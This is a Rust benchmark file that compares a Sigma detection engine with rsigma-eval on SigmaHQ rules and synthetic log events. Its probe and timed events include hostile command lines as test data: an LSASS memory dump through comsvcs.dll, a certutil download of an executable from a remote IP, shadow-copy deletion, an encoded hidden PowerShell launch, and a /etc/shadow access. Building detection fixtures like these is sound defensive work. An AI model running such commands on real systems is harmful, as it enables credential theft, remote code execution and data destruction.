//! Same-run comparison of our evaluator with `rsigma-eval` (crates.io):
//! the same SigmaHQ rules (only files that both engines load, one
//! detection each), the same events, per-event evaluation of every rule.
//!
//! Events are one list of `(field, value)` pairs and a message. Our engine
//! gets them as an [`Event`]; rsigma gets a `serde_json` object (and, as a
//! second form, a `KvEvent`) with the same pairs plus `message`, built
//! before timing. Windows fields carry their Sigma names (`Channel`,
//! `EventID`, `Image`, ...), which both engines resolve by exact name; our
//! engine is also timed on the dotted form `benches/match.rs` uses
//! (`Event.EventData.Image`, resolved by unique leaf), which rsigma cannot
//! resolve without a field-mapping pipeline.
//!
//! Before timing, every rule's verdict is compared on every event (the
//! timed events and a few probe events that are meant to match); a rule
//! on which the engines disagree is printed and left out of the timed
//! sets. rsigma runs with its defaults (candidate index on, logsource
//! pruning off, match detail off).

use std::collections::{BTreeMap, BTreeSet};
use std::fs;
use std::hint::black_box;
use std::path::{Path, PathBuf};

use criterion::{criterion_group, criterion_main, Criterion, Throughput};
use rsigma_eval::{Engine, JsonEvent, KvEvent};
use rsigma_parser::{parse_sigma_yaml, SigmaRule};
use serde_json::{Map, Value};
use shardwatch_rules::{Event, RuleSet, RuleSource, Scratch};

/// One event: fields as `(name, value)`, and the free-text message.
struct TestEvent {
    fields: Vec<(&'static str, &'static str)>,
    message: &'static str,
}

fn ev(fields: &[(&'static str, &'static str)], message: &'static str) -> TestEvent {
    TestEvent {
        fields: fields.to_vec(),
        message,
    }
}

/// The mixed set of `benches/match.rs`: Linux syslog (sshd, sudo, cron,
/// kernel, systemd: the first six) and Windows events (the rest), here
/// with Sigma field names.
fn timed_events() -> Vec<TestEvent> {
    vec![
        ev(
            &[
                ("host.name", "host1"),
                ("process.name", "sshd"),
                ("event.action", "ssh_login"),
                ("event.outcome", "failure"),
                ("user.name", "root"),
                ("source.ip", "198.51.100.10"),
                ("source.port", "50022"),
            ],
            "Failed password for root from 198.51.100.10 port 50022 ssh2",
        ),
        ev(
            &[
                ("host.name", "host1"),
                ("process.name", "sshd"),
                ("event.action", "ssh_login"),
                ("event.outcome", "success"),
                ("user.name", "deploy"),
                ("source.ip", "10.1.2.3"),
            ],
            "Accepted publickey for deploy from 10.1.2.3 port 50514 ssh2: ED25519 SHA256:abc",
        ),
        ev(
            &[("host.name", "host1"), ("process.name", "CRON")],
            "(root) CMD (run-parts /etc/cron.hourly)",
        ),
        ev(
            &[
                ("host.name", "host2"),
                ("process.name", "sudo"),
                ("user.name", "bob"),
            ],
            "bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx",
        ),
        ev(
            &[("host.name", "host3"), ("process.name", "kernel")],
            "[12345.678] IN=eth0 OUT= MAC=00:11 SRC=203.0.113.9 DST=10.0.0.5 PROTO=TCP SPT=4444 DPT=22",
        ),
        ev(
            &[("host.name", "host1"), ("process.name", "systemd")],
            "Started Session 42 of user deploy.",
        ),
        ev(
            &[
                ("Channel", "Microsoft-Windows-Sysmon/Operational"),
                ("EventID", "1"),
                ("Computer", "ws1.corp"),
                ("Image", "C:\\Windows\\System32\\svchost.exe"),
                (
                    "CommandLine",
                    "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
                ),
                ("ParentImage", "C:\\Windows\\System32\\services.exe"),
                ("User", "NT AUTHORITY\\SYSTEM"),
                ("IntegrityLevel", "System"),
            ],
            "",
        ),
        ev(
            &[
                ("Channel", "Security"),
                ("EventID", "4624"),
                ("TargetUserName", "alice"),
                ("IpAddress", "10.0.0.20"),
                ("LogonType", "3"),
            ],
            "",
        ),
        ev(
            &[
                ("Channel", "Microsoft-Windows-Sysmon/Operational"),
                ("EventID", "13"),
                (
                    "TargetObject",
                    "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater",
                ),
                ("Details", "C:\\Program Files\\Updater\\upd.exe"),
                ("Image", "C:\\Program Files\\Updater\\setup.exe"),
            ],
            "",
        ),
        ev(
            &[
                ("Channel", "Microsoft-Windows-Sysmon/Operational"),
                ("EventID", "1"),
                (
                    "Image",
                    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                ),
                (
                    "CommandLine",
                    "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=",
                ),
                (
                    "ParentImage",
                    "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                ),
            ],
            "",
        ),
    ]
}

/// Events for the agreement check only, meant to make rules fire (mixed
/// case on purpose: Sigma matching is case-insensitive).
fn probe_events() -> Vec<TestEvent> {
    vec![
        ev(
            &[
                ("Channel", "Microsoft-Windows-Sysmon/Operational"),
                ("EventID", "1"),
                ("Image", "C:\\Windows\\System32\\WhoAmI.exe"),
                ("OriginalFileName", "whoami.exe"),
                ("CommandLine", "whoami /priv"),
                ("ParentImage", "C:\\Windows\\System32\\cmd.exe"),
                ("User", "CORP\\alice"),
            ],
            "",
        ),
        ev(
            &[
                ("Channel", "Security"),
                ("EventID", "4688"),
                ("NewProcessName", "C:\\Windows\\System32\\rundll32.exe"),
                (
                    "CommandLine",
                    "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full",
                ),
            ],
            "",
        ),
        ev(
            &[
                ("Channel", "Microsoft-Windows-Sysmon/Operational"),
                ("EventID", "1"),
                ("Image", "C:\\Windows\\System32\\certutil.exe"),
                (
                    "CommandLine",
                    "certutil.exe -urlcache -split -f http://198.51.100.7/a.exe C:\\Users\\Public\\a.exe",
                ),
                ("ParentImage", "C:\\Windows\\System32\\cmd.exe"),
            ],
            "",
        ),
        ev(
            &[
                ("Channel", "Microsoft-Windows-Sysmon/Operational"),
                ("EventID", "1"),
                ("Image", "C:\\Windows\\System32\\vssadmin.exe"),
                ("CommandLine", "vssadmin.exe Delete Shadows /All /Quiet"),
            ],
            "",
        ),
        ev(
            &[("Channel", "Security"), ("EventID", "1102")],
            "",
        ),
        ev(
            &[("Channel", "System"), ("EventID", "7045"), ("ImagePath", "C:\\Windows\\Temp\\psexesvc.exe"), ("ServiceName", "PSEXESVC")],
            "",
        ),
        ev(
            &[("host.name", "host1"), ("process.name", "sshd")],
            "error: buffer_get_ret: trying to get more bytes 1 than in buffer 0",
        ),
        ev(
            &[("host.name", "host1"), ("process.name", "sudo")],
            "alice : user NOT in sudoers ; TTY=pts/1 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/bash",
        ),
        ev(
            &[("host.name", "host1"), ("process.name", "kernel")],
            "audit: type=1400 apparmor=\"DENIED\" operation=\"open\" name=\"/etc/shadow\"",
        ),
    ]
}

/// Our engine's input, borrowing `event`'s strings as bytes.
fn our_fields(event: &TestEvent) -> Vec<(&'static str, &'static [u8])> {
    event
        .fields
        .iter()
        .map(|(name, value)| (*name, value.as_bytes()))
        .collect()
}

/// The dotted form of `benches/match.rs`: Windows fields under
/// `Event.System.` or `Event.EventData.`.
fn dotted_fields(event: &TestEvent) -> Vec<(String, &'static [u8])> {
    event
        .fields
        .iter()
        .map(|(name, value)| {
            let name = match *name {
                "Channel" | "EventID" | "Computer" => format!("Event.System.{name}"),
                n if n.contains('.') => n.to_owned(),
                n => format!("Event.EventData.{n}"),
            };
            (name, value.as_bytes())
        })
        .collect()
}

/// rsigma's JSON input: the same pairs, and the message as `message`.
fn json_event(event: &TestEvent) -> Value {
    let mut map = Map::new();
    for (name, value) in &event.fields {
        map.insert((*name).to_owned(), Value::String((*value).to_owned()));
    }
    if !event.message.is_empty() {
        map.insert(
            "message".to_owned(),
            Value::String(event.message.to_owned()),
        );
    }
    Value::Object(map)
}

/// rsigma's flat key-value input, same content as [`json_event`].
fn kv_event(event: &TestEvent) -> KvEvent {
    let mut fields: Vec<(String, String)> = event
        .fields
        .iter()
        .map(|(n, v)| ((*n).to_owned(), (*v).to_owned()))
        .collect();
    if !event.message.is_empty() {
        fields.push(("message".to_owned(), event.message.to_owned()));
    }
    KvEvent::new(fields)
}

fn collect_yml(dir: &Path, out: &mut Vec<PathBuf>) {
    let Ok(entries) = fs::read_dir(dir) else {
        return;
    };
    for entry in entries.flatten() {
        let path = entry.path();
        if path.is_dir() {
            collect_yml(&path, out);
        } else if path.extension().is_some_and(|e| e == "yml") {
            out.push(path);
        }
    }
}

/// A SigmaHQ rule that both engines load: one detection, the same id.
#[derive(Clone)]
struct Common {
    id: String,
    source: RuleSource,
    rsigma: SigmaRule,
}

/// Every SigmaHQ file, in path order, that both engines load as exactly
/// one detection rule. Also returns how many files each engine loads.
fn common_rules() -> (Vec<Common>, usize, usize, usize) {
    let root = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../shared/data/sigma/rules");
    let mut files = Vec::new();
    collect_yml(&root, &mut files);
    files.sort();
    let total = files.len();
    let (mut ours_ok, mut theirs_ok) = (0, 0);
    let mut common = Vec::new();
    for path in files {
        let source = RuleSource {
            origin: path.display().to_string(),
            text: fs::read_to_string(&path).unwrap_or_default(),
        };
        let ours = RuleSet::compile(std::slice::from_ref(&source))
            .ok()
            .filter(|r| r.detection_count() == 1 && r.correlation_count() == 0);
        let theirs = parse_sigma_yaml(&source.text).ok().filter(|c| {
            c.errors.is_empty()
                && c.rules.len() == 1
                && c.correlations.is_empty()
                && c.filters.is_empty()
                && Engine::new().add_rule(&c.rules[0]).is_ok()
        });
        ours_ok += usize::from(ours.is_some());
        theirs_ok += usize::from(theirs.is_some());
        let (Some(ours), Some(mut theirs)) = (ours, theirs) else {
            continue;
        };
        let id = ours.detection(0).id.clone();
        let rule = theirs.rules.remove(0);
        if rule.id.as_deref() != Some(id.as_str()) {
            println!("skip {}: ids differ", source.origin);
            continue;
        }
        common.push(Common {
            id,
            source,
            rsigma: rule,
        });
    }
    (common, total, ours_ok, theirs_ok)
}

/// Every n-th rule of `rules`, so a small set is a spread of products.
fn spread(rules: &[Common], count: usize) -> Vec<Common> {
    if count >= rules.len() {
        return rules.to_vec();
    }
    let step = rules.len() as f64 / count as f64;
    (0..count)
        .map(|i| rules[(i as f64 * step) as usize].clone())
        .collect()
}

/// Both engines compiled from the same rules.
struct Pair {
    ours: RuleSet,
    theirs: Engine,
}

fn build(rules: &[Common]) -> Pair {
    let sources: Vec<RuleSource> = rules.iter().map(|r| r.source.clone()).collect();
    let (ours, errors) = RuleSet::compile_lenient(&sources);
    assert!(errors.is_empty(), "{errors:?}");
    assert_eq!(ours.detection_count(), rules.len());
    let mut theirs = Engine::new();
    let errors = theirs.add_rules(rules.iter().map(|r| &r.rsigma));
    assert!(errors.is_empty(), "{errors:?}");
    assert_eq!(theirs.rule_count(), rules.len());
    Pair { ours, theirs }
}

fn ours_ids(rules: &RuleSet, event: &Event<'_>, scratch: &mut Scratch) -> BTreeSet<String> {
    let mut out = Vec::new();
    rules.evaluate(event, scratch, &mut out);
    out.iter()
        .map(|&i| rules.detection(i as usize).id.clone())
        .collect()
}

fn theirs_ids<E: rsigma_eval::Event>(engine: &Engine, event: &E) -> BTreeSet<String> {
    engine
        .evaluate(event)
        .iter()
        .map(|r| r.header.rule_id.clone().unwrap_or_default())
        .collect()
}

/// Compares both engines (and every event form) on every event; returns
/// the ids of the rules they disagree on, with what each said.
fn disagreements(rules: &[Common], events: &[TestEvent]) -> BTreeMap<String, Vec<String>> {
    let pair = build(rules);
    let mut scratch = Scratch::new();
    let mut found: BTreeMap<String, Vec<String>> = BTreeMap::new();
    let mut note = |id: &str, what: String| found.entry(id.to_owned()).or_default().push(what);
    for (n, event) in events.iter().enumerate() {
        let fields = our_fields(event);
        let dotted = dotted_fields(event);
        let dotted: Vec<(&str, &[u8])> = dotted.iter().map(|(k, v)| (k.as_str(), *v)).collect();
        let message = event.message.as_bytes();
        let flat = Event {
            time_ns: 1,
            fields: &fields,
            message,
            raw: message,
        };
        let ours = ours_ids(&pair.ours, &flat, &mut scratch);
        let ours_dotted = ours_ids(
            &pair.ours,
            &Event {
                fields: &dotted,
                ..flat
            },
            &mut scratch,
        );
        let json = json_event(event);
        let theirs = theirs_ids(&pair.theirs, &JsonEvent::borrow(&json));
        let theirs_kv = theirs_ids(&pair.theirs, &kv_event(event));
        for id in ours.symmetric_difference(&theirs) {
            let who = if ours.contains(id) { "ours" } else { "rsigma" };
            note(id, format!("event {n}: only {who} matches"));
        }
        for id in ours.symmetric_difference(&ours_dotted) {
            note(
                id,
                format!("event {n}: ours differs between flat and dotted"),
            );
        }
        for id in theirs.symmetric_difference(&theirs_kv) {
            note(id, format!("event {n}: rsigma differs between JSON and KV"));
        }
        if n < 10 || !ours.is_empty() {
            println!("event {n}: ours {ours:?} rsigma {theirs:?}");
        }
    }
    found
}

/// Our matches over `events` (fields from `fields`, message from `timed`).
fn ours_matches(
    rules: &RuleSet,
    fields: &[Vec<(&str, &[u8])>],
    timed: &[TestEvent],
    scratch: &mut Scratch,
    out: &mut Vec<u32>,
) -> usize {
    let mut n = 0;
    for (fields, event) in fields.iter().zip(timed) {
        let message = event.message.as_bytes();
        let event = Event {
            time_ns: 1,
            fields,
            message,
            raw: message,
        };
        rules.evaluate(black_box(&event), scratch, out);
        n += out.len();
    }
    black_box(n)
}

/// rsigma's matches over `events`.
fn theirs_matches<E: rsigma_eval::Event>(engine: &Engine, events: &[E]) -> usize {
    let n = events
        .iter()
        .map(|event| engine.evaluate(black_box(event)).len())
        .sum();
    black_box(n)
}

fn bench_vs_rsigma(c: &mut Criterion) {
    println!(
        "rsigma-eval 0.23.0 / rsigma-parser 0.23.0 vs shardwatch-rules {}",
        env!("CARGO_PKG_VERSION")
    );
    let (common, total, ours_ok, theirs_ok) = common_rules();
    println!(
        "{total} SigmaHQ files: ours loads {ours_ok}, rsigma loads {theirs_ok} (one detection each), both {}",
        common.len()
    );
    let timed = timed_events();
    let mut check = timed_events();
    check.extend(probe_events());
    let bad = disagreements(&common, &check);
    println!(
        "agreement check: {} rules x {} events, {} rules disagree",
        common.len(),
        check.len(),
        bad.len()
    );
    for (id, what) in &bad {
        let rule = common.iter().find(|r| &r.id == id);
        let origin = rule.map_or("?", |r| r.source.origin.as_str());
        println!("  disagree {id} {origin}: {what:?}");
    }
    let agreed: Vec<Common> = common
        .into_iter()
        .filter(|r| !bad.contains_key(&r.id))
        .collect();
    assert!(
        disagreements(&agreed, &check).is_empty(),
        "excluding the disagreeing rules must leave none"
    );

    let ours_events: Vec<Vec<(&str, &[u8])>> = timed.iter().map(our_fields).collect();
    let dotted_owned: Vec<Vec<(String, &[u8])>> = timed.iter().map(dotted_fields).collect();
    let dotted_events: Vec<Vec<(&str, &[u8])>> = dotted_owned
        .iter()
        .map(|f| f.iter().map(|(k, v)| (k.as_str(), *v)).collect())
        .collect();
    let json_values: Vec<Value> = timed.iter().map(json_event).collect();
    let json_events: Vec<JsonEvent<'_>> = json_values.iter().map(JsonEvent::borrow).collect();
    let kv_events: Vec<KvEvent> = timed.iter().map(kv_event).collect();

    let mut group = c.benchmark_group("vs_rsigma");
    group.throughput(Throughput::Elements(timed.len() as u64));
    for count in [10usize, 100, usize::MAX] {
        let rules = spread(&agreed, count);
        let label = if count == usize::MAX {
            format!("all_{}", rules.len())
        } else {
            rules.len().to_string()
        };
        let pair = build(&rules);
        let mut scratch = Scratch::new();
        let mut out = Vec::new();
        let matched = ours_matches(&pair.ours, &ours_events, &timed, &mut scratch, &mut out);
        println!(
            "{label}: {} rules, {} prefiltered by ours in {} log source groups, {matched} matches over {} events",
            rules.len(),
            pair.ours.prefiltered_count(),
            pair.ours.logsource_group_count(),
            timed.len()
        );
        // Every event, then the Linux syslog events and the Windows events
        // apart (where each engine spends its time), then the dotted form.
        let subsets = [
            ("", 0..timed.len()),
            ("_linux", 0..6),
            ("_windows", 6..timed.len()),
        ];
        for (subset, range) in subsets {
            let (fields, events) = (&ours_events[range.clone()], &timed[range.clone()]);
            group.bench_function(format!("{label}/shardwatch{subset}"), |b| {
                b.iter(|| ours_matches(&pair.ours, fields, events, &mut scratch, &mut out))
            });
            let kv = &kv_events[range];
            group.bench_function(format!("{label}/rsigma_kv{subset}"), |b| {
                b.iter(|| theirs_matches(&pair.theirs, kv))
            });
        }
        group.bench_function(format!("{label}/shardwatch_dotted"), |b| {
            b.iter(|| ours_matches(&pair.ours, &dotted_events, &timed, &mut scratch, &mut out))
        });
        group.bench_function(format!("{label}/rsigma_json"), |b| {
            b.iter(|| theirs_matches(&pair.theirs, &json_events))
        });
    }
    group.finish();
}

criterion_group!(benches, bench_vs_rsigma);
criterion_main!(benches);
